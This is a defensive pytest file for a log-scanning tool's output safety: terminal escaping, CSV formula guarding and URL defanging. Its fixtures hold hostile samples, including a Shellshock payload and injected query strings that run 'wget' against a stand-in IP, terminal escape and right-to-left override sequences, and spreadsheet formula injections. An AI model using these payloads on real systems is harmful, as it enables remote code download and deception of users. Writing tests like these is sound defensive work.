"""Nothing attacker-written reaches a terminal or a spreadsheet as anything but text.

Log text is escaped for terminals (control characters, bidi and other invisible format
characters), never read as markup, and formula-guarded in CSV; ``--defang`` makes URLs
unclickable in every human-facing format while JSON stays exact.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import GOOD_PACK, combined_line, diagnostics
from dropscan.cli import app
from dropscan.outputs.safety import csv_cell, defang, term
from dropscan.outputs.writers import summary_text

# An escape sequence that retitles the window, one that clears the screen, Rich/console
# markup, and a right-to-left override that would show "exe.png" as "gnp.exe".
HOSTILE = "\x1b]0;pwned\x07 [link=http://evil.example]click[/link] [bold red]x[/] \x1b[2J \u202egnp.exe \x9b31m"
SHELLSHOCK = "() { :; }; /bin/sh -c 'wget http://203.0.113.9/x' " + HOSTILE
RAW_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def run(runner, args):
    # a wide "terminal", so that the table shows the whole decoded text
    return runner.invoke(app, args, catch_exceptions=False, env={"COLUMNS": "500"})


@pytest.fixture()
def hostile_log(tmp_path):
    p = tmp_path / "access.log"
    p.write_bytes(combined_line("/cgi-bin/test", ua=SHELLSHOCK, referer=HOSTILE, client="203.0.113.5"))
    return p


def test_table_shows_hostile_text_as_text(runner, hostile_log):
    r = run(runner, ["scan", str(hostile_log), "-f", "table", "-j", "1"])
    assert r.exit_code == 1
    assert not RAW_CONTROL.search(r.stdout)
    assert r"\x1b]0;pwned\x07" in r.stdout and r"\x1b[2J" in r.stdout and r"\u202egnp.exe" in r.stdout
    assert r"\x9b31m" in r.stdout  # a C1 control (8-bit CSI)
    assert "[link=http://evil.example]click[/link] [bold red]x[/]" in r.stdout  # markup stays literal


def test_table_and_csv_defang_json_stays_exact(runner, hostile_log):
    table = run(runner, ["scan", str(hostile_log), "-f", "table", "--defang", "-j", "1"]).stdout
    assert "hxxp://203.0.113[.]9" in table and "http://203.0.113.9" not in table
    assert "203.0.113[.]9:80" in table  # the destination column
    rows = list(csv.DictReader(io.StringIO(run(runner, ["scan", str(hostile_log), "-f", "csv", "--defang"]).stdout)))
    (row,) = rows
    assert row["dest_host"] == "203.0.113[.]9" and row["dest_url"] == "hxxp://203.0.113[.]9/x"
    assert "hxxp://203.0.113[.]9/x" in row["decoded"] and "hxxp://203.0.113[.]9/x" in row["user_agent"]
    assert "http://203.0.113.9" not in json.dumps(row)
    (rec,) = map(json.loads, run(runner, ["scan", str(hostile_log), "-f", "jsonl", "--defang"]).stdout.splitlines())
    assert rec["user_agent"] == SHELLSHOCK and rec["referer"] == HOSTILE  # JSON: exact, control characters and all
    assert rec["egress"][0]["url"] == "http://203.0.113.9/x"


def test_csv_escapes_control_characters_and_guards_formulas(runner, tmp_path):
    p = tmp_path / "access.log"
    lines = [
        combined_line("/x?c=;wget http://203.0.113.9/a", ua=ua, referer=ref)
        for ua, ref in [
            ('=HYPERLINK("http://evil.example","x")', "+1+1"),
            ("-2+3", "@SUM(A1)"),
            ("\tcmd", "\rcmd"),
            (HOSTILE, "ok"),
        ]
    ]
    p.write_bytes(b"".join(lines))
    out = run(runner, ["scan", str(p), "-f", "csv"]).stdout
    assert not RAW_CONTROL.search(out.replace("\n", ""))  # a terminal showing the file is safe too
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [(r["user_agent"], r["referer"]) for r in rows] == [
        ('\'=HYPERLINK("http://evil.example","x")', "'+1+1"),
        ("'-2+3", "'@SUM(A1)"),
        (r"\x09cmd", r"\x0dcmd"),
        (term(HOSTILE), "ok"),
    ]
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


@pytest.mark.parametrize(
    ("value", "cell"),
    [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", r"\x09x"), ("\rx", r"\x0dx"), (None, "")],
)
def test_csv_cell_guards_every_formula_start(value, cell):
    assert csv_cell(value) == cell


def test_summary_and_errors_escape_file_names(runner, tmp_path):
    name = "access\x1b[2J\u202e.log\nforged: line"
    p = tmp_path / f"{name}.gz"
    p.write_bytes(gzip.compress(combined_line("/x?c=;wget http://203.0.113.9/a"))[:-12])  # truncated
    s = tmp_path / "s.json"
    r = run(runner, ["scan", str(p), "-f", "table", "--summary", str(s)])
    assert r.exit_code == 2
    (line,) = diagnostics(r.stderr)  # one line, whatever the name holds
    assert line == f"dropscan: error: {term(str(p))}: truncated gzip data (unexpected end of file)"
    assert r"\x1b[2J\u202e.log\x0aforged: line" in line
    summary = json.loads(s.read_text())
    assert summary["files"][0]["path"] == str(p)  # the JSON summary is exact
    text = summary_text(summary)  # what a terminal shows on stderr
    # INCOMPLETE, totals, the file, the error
    assert not RAW_CONTROL.search(text.replace("\n", "")) and len(text.splitlines()) == 4
    assert os.path.basename(term(str(p))) in text


def test_explain_escapes_what_it_shows(runner):
    line = combined_line("/cgi-bin/test", ua=SHELLSHOCK).decode().rstrip("\n")
    r = run(runner, ["explain", line])
    assert r.exit_code == 1 and "MATCH shellshock.command" in r.stdout
    assert not RAW_CONTROL.search(r.stdout)
    assert r"\x1b]0;pwned\x07" in r.stdout and "[link=http://evil.example]click[/link]" in r.stdout
    j = json.loads(run(runner, ["explain", "--json", line]).stdout)
    assert j["record"]["user_agent"] == SHELLSHOCK  # JSON exact


def test_signature_list_escapes_names_from_a_foreign_pack(runner, tmp_path):
    (tmp_path / "p.yaml").write_text(GOOD_PACK.replace("name: mine", 'name: "evil \\e]0;title\\a name"'))
    r = run(runner, ["signatures", "list", str(tmp_path)])
    assert r.exit_code == 0 and not RAW_CONTROL.search(r.stdout)
    assert r"evil \x1b]0;title\x07 name" in r.stdout


@settings(max_examples=500, deadline=None)
@given(st.text(max_size=80), st.text(alphabet="htpsf:/.0123456789abc[]@ x", max_size=60))
def test_the_safety_functions_are_idempotent(text, url_text):
    # escaping twice must not double-escape: output passed through two layers stays readable
    assert term(term(text)) == term(text)
    assert csv_cell(csv_cell(text)) == csv_cell(text)
    assert defang(defang(url_text)) == defang(url_text)
    assert not RAW_CONTROL.search(term(text)) and "\n" not in term(text)
